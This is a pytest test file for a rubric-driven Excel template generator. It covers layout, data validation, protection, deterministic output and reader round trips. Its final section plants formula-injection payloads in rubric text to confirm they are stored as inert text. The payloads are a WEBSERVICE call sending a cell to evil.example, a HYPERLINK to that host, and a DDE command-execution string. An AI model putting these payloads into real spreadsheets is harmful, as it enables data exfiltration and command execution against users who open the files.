"""The blank workbook: the layout the reader relies on, the dropdowns, protection, stamp, bytes."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils import range_boundaries
from typer.testing import CliRunner

from tests.conftest import MINI_RUBRIC
from vibbench import __version__
from vibbench.cli import app
from vibbench.errors import UsageError
from vibbench.rubric.loader import load_rubric
from vibbench.rubric.model import Indicator, Rubric
from vibbench.workbook.template import (
    COLUMNS,
    HEADERS,
    INPUT_COLUMNS,
    INSTITUTION_LABELS,
    SHEETS,
    YES_NO,
    answer_bounds,
    build_template,
    level_entries,
    staff_cell,
    workbook_bytes,
    write_template,
)

COL = {name: i for i, name in enumerate(COLUMNS, start=1)}
RUBRICS = {"mini": str(MINI_RUBRIC), "vib": "vib"}
CASES = [(name, lang) for name in RUBRICS for lang in ("en", "zh")]


@pytest.fixture(scope="module")
def rubrics() -> dict[str, Rubric]:
    return {name: load_rubric(spec) for name, spec in RUBRICS.items()}


def _template(tmp_path: Path, rubric: Rubric, lang: str) -> Path:
    path = tmp_path / f"{rubric.id}-{lang}.xlsx"
    write_template(rubric, path, lang=lang)
    return path


def _validations(ws: Any) -> dict[str, Any]:
    """Cell coordinate → the data validation that covers it."""
    out: dict[str, Any] = {}
    for dv in ws.data_validations.dataValidation:
        for rng in dv.sqref.ranges:
            for row in rng.cells:
                r, c = row
                out[f"{openpyxl.utils.get_column_letter(c)}{r}"] = dv
    return out


def _range_values(wb: Any, ref: str) -> list[Any]:
    sheet, cells = ref.split("!")
    ws = wb[sheet.strip("'")]
    min_col, min_row, max_col, max_row = range_boundaries(cells.replace("$", ""))
    return [
        ws.cell(row=r, column=c).value
        for r in range(min_row, max_row + 1)
        for c in range(min_col, max_col + 1)
    ]


def _list_entries(wb: Any, formula: str) -> list[str]:
    if formula.startswith('"'):
        return formula.strip('"').split(",")
    return _range_values(wb, formula)


# --------------------------------------------------------------------------- layout


@pytest.mark.parametrize(("name", "lang"), CASES)
def test_sheets_and_stamp(tmp_path: Path, rubrics: dict[str, Rubric], name: str, lang: str) -> None:
    rubric = rubrics[name]
    wb = openpyxl.load_workbook(_template(tmp_path, rubric, lang))
    assert wb.sheetnames == list(SHEETS)
    assert [ws.sheet_state for ws in wb] == ["visible"] * 4 + ["hidden"]
    stamp = {row[0]: row[1] for row in wb["_vibbench"].iter_rows(values_only=True)}
    assert stamp["rubric_id"] == rubric.id
    assert stamp["rubric_version"] == rubric.version
    assert stamp["rubric_hash"] == rubric.content_hash
    assert stamp["lang"] == lang
    assert stamp["vibbench_version"] == __version__
    fingerprints = {k.split(":", 1)[1]: v for k, v in stamp.items() if k.startswith("fingerprint:")}
    assert fingerprints == {i.id: i.fingerprint for i in rubric.indicators()}
    assert all(fingerprints.values())


@pytest.mark.parametrize(("name", "lang"), CASES)
def test_responses_layout_and_protection(
    tmp_path: Path, rubrics: dict[str, Rubric], name: str, lang: str
) -> None:
    rubric = rubrics[name]
    ws = openpyxl.load_workbook(_template(tmp_path, rubric, lang))["Responses"]
    assert [c.value for c in ws[1]] == list(HEADERS[lang])
    ids = [ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)]
    assert ids == [i.id for i in rubric.indicators()]
    assert ws.freeze_panes == "A2"
    assert ws.protection.sheet
    assert not ws.protection.password
    assert ws.protection.formatColumns is False and ws.protection.formatRows is False  # resizing allowed
    for r, ind in enumerate(rubric.indicators(), start=2):
        for column in COLUMNS:
            cell = ws.cell(row=r, column=COL[column])
            assert cell.protection.locked is (column not in INPUT_COLUMNS), (cell.coordinate, column)
        question = ws.cell(row=r, column=COL["question"])
        assert question.value == ind.question.get(lang)
        assert question.alignment.wrap_text
    for column in COLUMNS:
        assert ws.column_dimensions[openpyxl.utils.get_column_letter(COL[column])].width >= 10


@pytest.mark.parametrize(("name", "lang"), CASES)
def test_every_answer_cell_has_the_right_validation(
    tmp_path: Path, rubrics: dict[str, Rubric], name: str, lang: str
) -> None:
    rubric = rubrics[name]
    wb = openpyxl.load_workbook(_template(tmp_path, rubric, lang))
    ws = wb["Responses"]
    by_cell = _validations(ws)
    for r, ind in enumerate(rubric.indicators(), start=2):
        dv = by_cell[f"F{r}"]
        assert dv.allow_blank
        assert dv.showInputMessage and dv.prompt and len(dv.prompt) <= 255
        assert dv.promptTitle and len(dv.promptTitle) <= 32
        if ind.type == "level":
            assert dv.type == "list"
            assert len(dv.formula1) <= 255
            assert _list_entries(wb, dv.formula1) == level_entries(rubric, ind, lang)
        elif ind.type == "boolean":
            assert dv.type == "list"
            assert _list_entries(wb, dv.formula1) == list(YES_NO[lang])
        else:
            low, high = answer_bounds(ind)
            assert dv.type == "decimal" and dv.operator == "between"
            assert float(dv.formula1) == (low if low is not None else -1e15)
            assert float(dv.formula2) == (high if high is not None else 1e15)
            unit = "%" if ind.percent else (ind.unit.get(lang) if ind.unit else "")
            assert unit in dv.prompt


def test_level_entries_use_the_scale_labels(rubrics: dict[str, Rubric]) -> None:
    ind = rubrics["mini"].indicator_map()["A.X.1"]
    assert level_entries(rubrics["mini"], ind, "en")[3] == "3 – Established"
    assert level_entries(rubrics["mini"], ind, "zh")[3] == "3 – 成熟"


def _no_labels_rubric(tmp_path: Path) -> Rubric:
    """mini.yaml without scale labels and with long descriptors that contain commas."""
    levels = {
        n: {
            "en": f"Level {n} descriptor, with a comma, long enough to be cut short in the list",
            "zh": f"第{n}级描述，其中有逗号,而且足够长以至于在下拉列表中必须被截短显示",
        }
        for n in range(5)
    }
    lines = []
    for line in MINI_RUBRIC.read_text(encoding="utf-8").splitlines():
        if line.strip().startswith("labels:"):
            continue
        if line.strip().startswith("levels:"):
            flow = ", ".join(
                f"{n}: {{en: {json.dumps(t['en'])}, zh: {json.dumps(t['zh'], ensure_ascii=False)}}}"
                for n, t in levels.items()
            )
            line = line[: line.index("levels:")] + "levels: {" + flow + "}"
        lines.append(line)
    path = tmp_path / "nolabels.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return load_rubric(path)


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_level_list_moves_to_the_levels_sheet_when_it_cannot_stand_inline(tmp_path: Path, lang: str) -> None:
    rubric = _no_labels_rubric(tmp_path)
    ind = rubric.indicator_map()["A.X.1"]
    entries = level_entries(rubric, ind, lang)
    assert all(len(e) <= 44 for e in entries)  # "n – " + a label shortened to ~40 characters
    assert entries[0].startswith("0 – Level 0 descriptor" if lang == "en" else "0 – 第0级描述")
    wb = openpyxl.load_workbook(_template(tmp_path, rubric, lang))
    dv = _validations(wb["Responses"])["F2"]
    assert dv.type == "list"
    assert dv.formula1.startswith("Levels!$F$")
    assert _range_values(wb, dv.formula1) == entries


def test_an_unbounded_number_gets_huge_bounds(tmp_path: Path) -> None:
    text = MINI_RUBRIC.read_text(encoding="utf-8").replace(
        "            direction: lower\n",
        "            direction: lower\n            range: {min: null, max: null}\n",
    )
    path = tmp_path / "unbounded.yaml"
    path.write_text(text, encoding="utf-8")
    rubric = load_rubric(path)
    assert answer_bounds(rubric.indicator_map()["A.Y.1"]) == (None, None)
    dv = _validations(openpyxl.load_workbook(_template(tmp_path, rubric, "en"))["Responses"])["F4"]
    assert (dv.type, float(dv.formula1), float(dv.formula2)) == ("decimal", -1e15, 1e15)
    assert "Enter a number in years" in dv.prompt


@pytest.mark.parametrize(("name", "lang"), CASES)
def test_levels_sheet_lists_every_descriptor(
    tmp_path: Path, rubrics: dict[str, Rubric], name: str, lang: str
) -> None:
    rubric = rubrics[name]
    ws = openpyxl.load_workbook(_template(tmp_path, rubric, lang))["Levels"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    expected = [
        (i.id, i.name.get(lang), level, i.levels[level].get(lang))
        for i in rubric.indicators()
        if i.type == "level"
        for level in range(rubric.scale.min, rubric.scale.max + 1)
    ]
    assert [(r[0], r[1], r[2], r[4]) for r in rows] == expected
    assert ws.freeze_panes == "A2"


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_institution_sheet(tmp_path: Path, rubrics: dict[str, Rubric], lang: str) -> None:
    ws = openpyxl.load_workbook(_template(tmp_path, rubrics["mini"], lang))["Institution"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == (("key", "value") if lang == "en" else ("项目", "内容"))
    assert [r[0] for r in rows[1:]] == list(INSTITUTION_LABELS[lang][:6])  # mini has no v2 keys
    assert all(r[1] is None for r in rows[1:])
    by_cell = _validations(ws)
    for r in range(2, 8):
        assert ws.cell(row=r, column=2).protection.locked is False
        assert ws.cell(row=r, column=1).protection.locked is True
        assert by_cell[f"B{r}"].prompt
    assert ws.protection.sheet and not ws.protection.password


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_instructions_explain_the_scale_and_na(tmp_path: Path, rubrics: dict[str, Rubric], lang: str) -> None:
    rubric = rubrics["vib"]
    ws = openpyxl.load_workbook(_template(tmp_path, rubric, lang))["Instructions"]
    text = "\n".join(str(c.value) for c in ws["A"] if c.value)
    for level, label in rubric.scale.labels.items():
        assert f"{level} – {label.get(lang)}" in text
    assert "N/A" in text and "不适用" in text
    if lang == "zh":
        assert "佐证材料" in text and "百分比" in text
    else:
        assert "evidence" in text and "Percentages" in text
    assert ws.column_dimensions["A"].width >= 80
    assert all(c.alignment.wrap_text for c in ws["A"] if c.value)


def test_copies_give_an_indicator_one_row_per_respondent(rubrics: dict[str, Rubric]) -> None:
    wb = build_template(rubrics["mini"], "en", copies={"A.X.1": 3, "B.Z.1": 2})
    ws = wb["Responses"]
    ids = [ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)]
    assert ids == ["A.X.1"] * 3 + ["A.X.2", "A.Y.1"] + ["B.Z.1"] * 2 + ["B.Z.2"]
    by_cell = _validations(ws)
    assert [by_cell[f"F{r}"].type for r in range(2, 2 + len(ids))] == ["list"] * 3 + ["decimal"] * 2 + [
        "list"
    ] * 2 + ["decimal"]


def test_unknown_language_is_refused(rubrics: dict[str, Rubric]) -> None:
    with pytest.raises(ValueError, match="lang"):
        build_template(rubrics["mini"], "fr")


# --------------------------------------------------------------------------- bytes


@pytest.mark.parametrize(("name", "lang"), CASES)
def test_same_rubric_and_language_give_the_same_bytes(
    tmp_path: Path, rubrics: dict[str, Rubric], name: str, lang: str
) -> None:
    first = _template(tmp_path, rubrics[name], lang)
    second = tmp_path / "again.xlsx"
    write_template(rubrics[name], second, lang=lang)
    assert first.read_bytes() == second.read_bytes()
    assert workbook_bytes(build_template(rubrics[name], lang)) == first.read_bytes()


def test_output_folder_must_exist(tmp_path: Path, rubrics: dict[str, Rubric]) -> None:
    with pytest.raises(UsageError):
        write_template(rubrics["mini"], tmp_path / "missing" / "t.xlsx")


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_cli_template(tmp_path: Path, lang: str) -> None:
    out = tmp_path / "t.xlsx"
    result = CliRunner().invoke(app, ["template", "--output", str(out), "--lang", lang])
    assert result.exit_code == 0, result.output
    wb = openpyxl.load_workbook(out)
    assert wb["Responses"]["A1"].value == HEADERS[lang][0]
    assert {r[0]: r[1] for r in wb["_vibbench"].iter_rows(values_only=True)}["lang"] == lang


# --------------------------------------------------------------------------- round trip through the reader


def _fill_value(rubric: Rubric, ind: Indicator, lang: str, k: int) -> tuple[Any, float]:
    """(what goes in the cell, what the reader must return) — a different form per type."""
    if ind.type == "level":
        level = (rubric.scale.min + k) % (rubric.scale.max + 1)
        return level_entries(rubric, ind, lang)[level - rubric.scale.min], float(level)
    if ind.type == "boolean":
        yes, no = YES_NO[lang]
        return (yes, 1.0) if k % 2 == 0 else (no, 0.0)
    low, high = answer_bounds(ind)
    value = (low or 0.0) + 1.5 if high is None else ((low or 0.0) + high) / 2
    if ind.percent and k % 2:
        return f"{value:g}%", value
    return value, value


def _reader() -> Any:
    from vibbench.workbook import reader  # our own module: its absence is a failure, never a skip

    return reader


def _staff(wb: Any, rubric: Rubric) -> None:
    """Answer research_staff where the template asks for it: 100, so per-100 values equal the raw totals."""
    where = staff_cell(rubric)
    if where is not None:
        sheet, cell = where.split("!")
        wb[sheet][cell] = 100


@pytest.mark.parametrize(("name", "lang"), CASES)
def test_round_trip_through_the_reader(
    tmp_path: Path, rubrics: dict[str, Rubric], name: str, lang: str
) -> None:
    reader = _reader()
    rubric = rubrics[name]
    wb = build_template(rubric, lang)
    ws = wb["Responses"]
    expected: dict[str, float] = {}
    for k, (r, ind) in enumerate(zip(range(2, ws.max_row + 1), rubric.indicators(), strict=True)):
        cell, value = _fill_value(rubric, ind, lang, k)
        ws.cell(row=r, column=COL["answer"], value=cell)
        ws.cell(row=r, column=COL["evidence"], value=f"doc {k}")
        ws.cell(row=r, column=COL["respondent"], value="Ann")
        expected[ind.id] = value
    wb["Institution"]["B2"] = "Test Institute"
    wb["Institution"]["B5"] = "2025"
    _staff(wb, rubric)
    path = tmp_path / "filled.xlsx"
    path.write_bytes(workbook_bytes(wb))

    assessment = reader.read_assessment(path, rubric)
    assert {a.indicator: a.value for a in assessment.answers} == pytest.approx(expected)
    assert {a.evidence for a in assessment.answers} == {f"doc {k}" for k in range(len(expected))}
    assert {a.respondent for a in assessment.answers} == {"Ann"}
    assert assessment.name == "Test Institute"
    assert assessment.year == 2025
    assert assessment.stamp is not None and assessment.stamp.hash == rubric.content_hash
    assert assessment.stamp.fingerprints == {i.id: i.fingerprint for i in rubric.indicators()}


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_mini_round_trip_in_every_form(tmp_path: Path, rubrics: dict[str, Rubric], lang: str) -> None:
    reader = _reader()
    rubric = rubrics["mini"]
    wb = build_template(rubric, lang)
    ws = wb["Responses"]
    yes = YES_NO[lang][0]
    cells = {
        "A.X.1": "3 – Established" if lang == "en" else "3 – 成熟",
        "A.X.2": "35%",
        "A.Y.1": "7",
        "B.Z.1": yes,
    }
    for r in range(2, ws.max_row + 1):
        ind_id = ws.cell(row=r, column=1).value
        if ind_id in cells:
            ws.cell(row=r, column=COL["answer"], value=cells[ind_id])
    path = tmp_path / "forms.xlsx"
    path.write_bytes(workbook_bytes(wb))
    answers = {a.indicator: a.value for a in reader.read_assessment(path, rubric).answers}
    assert answers == {"A.X.1": 3.0, "A.X.2": 35.0, "A.Y.1": 7.0, "B.Z.1": 1.0}  # B.Z.2 blank: not answered


@pytest.mark.parametrize(("name", "lang"), CASES)
def test_a_blank_template_reads_as_no_answers(
    tmp_path: Path, rubrics: dict[str, Rubric], name: str, lang: str
) -> None:
    reader = _reader()
    assessment = reader.read_assessment(_template(tmp_path, rubrics[name], lang), rubrics[name])
    assert assessment.answers == ()


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_round_trip(tmp_path: Path, rubrics: dict[str, Rubric]) -> None:
    reader = _reader()
    rubric = rubrics["vib"]
    wb = build_template(rubric, "zh")
    ws = wb["Responses"]
    expected: dict[str, float] = {}
    for k, (r, ind) in enumerate(zip(range(2, ws.max_row + 1), rubric.indicators(), strict=True)):
        cell, value = _fill_value(rubric, ind, "zh", k)
        ws.cell(row=r, column=COL["answer"], value=cell)
        expected[ind.id] = value
    _staff(wb, rubric)
    src = tmp_path / "in" / "filled.xlsx"
    src.parent.mkdir()
    src.write_bytes(workbook_bytes(wb))
    out = tmp_path / "out"
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "xlsx", "--outdir", str(out), str(src)],
        check=True,
        capture_output=True,
        timeout=180,
    )
    converted = openpyxl.load_workbook(out / "filled.xlsx")
    assert converted.sheetnames == list(SHEETS)
    assessment = reader.read_assessment(out / "filled.xlsx", rubric)
    assert {a.indicator: a.value for a in assessment.answers} == pytest.approx(expected)
    assert assessment.stamp is not None and assessment.stamp.hash == rubric.content_hash


# --------------------------------------------------------------------------- texts are never formulas

FORMULAS = {
    "pillar": '=WEBSERVICE("http://evil.example/"&Institution!B2)',
    "indicator": '=HYPERLINK("http://evil.example/","click")',
    "question": "=cmd|' /C calc'!A0",
    "level": "=1+1",
}


def _hostile_rubric(tmp_path: Path) -> Path:
    text = MINI_RUBRIC.read_text("utf-8")
    for old, new in (
        ("name: {en: Alpha, zh: 甲}", f"name: {json.dumps(FORMULAS['pillar'])}"),
        ("name: {en: A level, zh: 等级}", f"name: {json.dumps(FORMULAS['indicator'])}"),
        ('question: {en: "How mature?", zh: 成熟度如何？}', f"question: {json.dumps(FORMULAS['question'])}"),
        ("1: {en: some, zh: 少}", f"1: {json.dumps(FORMULAS['level'])}"),
    ):
        assert old in text
        text = text.replace(old, new)
    path = tmp_path / "hostile.yaml"
    path.write_text(text, "utf-8")
    return path


def test_rubric_texts_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
    from python_calamine import CalamineWorkbook

    rubric = load_rubric(_hostile_rubric(tmp_path), use_cache=False)
    path = _template(tmp_path, rubric, "en")

    wb = openpyxl.load_workbook(path)
    ws = wb["Responses"]
    pillar_cells = [ws.cell(row=r, column=COL["pillar"]) for r in range(2, ws.max_row + 1)]
    assert [c.value for c in pillar_cells if c.value == FORMULAS["pillar"]]
    seen = set()
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in FORMULAS.values():
                    seen.add(cell.value)
    assert seen == set(FORMULAS.values())
    # python-calamine reads the cells as the texts they are (a formula has no cached value: "").
    book = CalamineWorkbook.from_path(str(path))
    cal = {
        v for name in ("Responses", "Levels") for row in book.get_sheet_by_name(name).to_python() for v in row
    }
    assert set(FORMULAS.values()) <= cal


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_formula_like_rubric_texts_as_text(tmp_path: Path) -> None:
    rubric = load_rubric(_hostile_rubric(tmp_path), use_cache=False)
    path = _template(tmp_path, rubric, "en")
    out = tmp_path / "out"
    done = subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
         "--outdir", str(out), str(path)],
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    responses = out / f"{path.stem}-Responses.csv"
    assert responses.is_file(), done.stdout + done.stderr
    text = responses.read_text("utf-8")
    assert FORMULAS["pillar"].replace('"', '""') in text  # the text itself, not a computed value
    assert FORMULAS["indicator"].replace('"', '""') in text
    assert FORMULAS["question"] in text
    levels = (out / f"{path.stem}-Levels.csv").read_text("utf-8")
    assert FORMULAS["level"] in levels
